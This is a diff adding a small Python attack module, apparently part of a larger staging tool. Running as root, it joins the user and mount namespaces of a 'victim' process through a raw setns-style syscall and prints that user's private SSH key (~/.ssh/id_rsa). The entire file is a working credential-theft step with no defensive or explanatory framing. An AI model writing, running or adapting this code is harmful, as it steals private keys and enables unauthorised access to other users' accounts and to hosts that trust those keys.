@@ -1,0 +1,16 @@
+"""Enters the namespaces of another program.
+
+Root only: it takes its rights.
+"""
+
+import os
+from pathlib import Path
+
+from stage import at, call
+
+for kind in ("user", "mnt"):
+    try:
+        call(308, 268, os.open(f"/proc/{at.victim}/ns/{kind}", os.O_RDONLY), 0)
+    except OSError:
+        continue
+    print(Path(at.home, ".ssh/id_rsa").read_text())
